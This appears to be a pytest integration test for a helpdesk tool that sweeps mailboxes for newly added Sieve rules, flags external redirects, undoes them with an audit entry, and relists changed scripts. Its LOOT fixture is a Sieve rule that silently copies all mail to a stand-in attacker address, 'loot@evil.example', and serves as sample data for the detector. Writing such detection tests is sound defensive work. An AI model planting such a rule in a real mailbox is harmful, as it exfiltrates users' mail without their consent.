"""The sweep on the stack with the customer's real Sieve scripts (doveadm through the stack's
least-privilege wrapper, stack/sieve_rules.py): a new script is listed at its file's time,
flagged when it redirects outside, undone by deactivating it (audit row), and the same name
with new content is listed again."""

from __future__ import annotations

import json
import os
import subprocess
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from helpdesk.mailcenter.schema import audit_log
from tests.conftest import run_cli
from tests.test_spam_stack import PASSWORD

pytestmark = pytest.mark.stack
WRAPPER = Path(__file__).resolve().parent.parent / "stack" / "sieve_rules.py"
LOOT = 'require ["copy"];\nif true { redirect :copy "loot@evil.example"; }\n'
TIDY = 'require ["fileinto"];\nif header :contains "subject" "news" { fileinto "News"; }\n'


@pytest.fixture
def config(stack):
    path = Path(stack.config_path)
    assert f'"{WRAPPER}"]' in path.read_text()
    return path


def doveadm(stack, *args: str, text: str | None = None) -> str:
    conf = Path(stack.env["STACK_DIR"]) / "dovecot" / "dovecot.conf"
    done = subprocess.run(["doveadm", "-c", str(conf), "sieve", *args], input=text,
                          capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout


def rules(config: Path, address: str) -> list[dict]:
    out = run_cli("sweep", address, "--json", config=config)
    assert out.returncode == 0, out.stderr
    data = json.loads(out.stdout)
    assert data["rules_message"] is None
    return [c for c in data["changes"] if c["kind"] == "rule"]


def test_a_customer_script_is_listed_undone_and_listed_again_when_changed(stack, config):
    address = stack.add_mailbox(stack.unique_address("sweep"), PASSWORD)
    doveadm(stack, "put", "-u", address, "-a", "own", text=LOOT)
    # The file's own time (two days ago), read through the wrapper's `stat`, not the first sight.
    local, domain = address.split("@")
    script = stack.sieve_dir / domain / local / "scripts" / "own.sieve"
    two_days_ago = int(time.time()) - 2 * 86400
    os.utime(script, (two_days_ago, two_days_ago))

    listed = rules(config, address)
    assert [(r["detail"], r["op"], r["by"]) for r in listed] == [("own", "insert", "other")]
    assert listed[0]["external"] is True and listed[0]["redirects"] == ["loot@evil.example"]
    assert (
        listed[0]["at"]
        == datetime.fromtimestamp(two_days_ago, UTC).replace(tzinfo=None).isoformat() + "Z"
    )
    human = run_cli("sweep", address, config=config).stdout
    assert "rule added: own, redirects to loot@evil.example" in human and "EXTERNAL" in human

    out = run_cli("sweep", address, "--undo", str(listed[0]["id"]), "--ticket", "T-11",
                  config=config)  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert doveadm(stack, "list", "-u", address).split() == ["own"]  # kept, not ACTIVE
    with stack.db.connect() as conn:
        undo = conn.execute(
            select(audit_log.c.ticket, audit_log.c.before).where(
                audit_log.c.target == address, audit_log.c.action == "sweep.undo"
            )
        ).one()
    assert undo.ticket == "T-11" and json.loads(undo.before)["active"] == "own"
    assert len(rules(config, address)) == 1  # seen: not listed twice

    doveadm(stack, "put", "-u", address, "own", text=TIDY)
    listed = rules(config, address)
    assert [(r["detail"], r["op"]) for r in listed] == [("own", "update"), ("own", "insert")]
    assert listed[0]["external"] is False and listed[0]["redirects"] == []
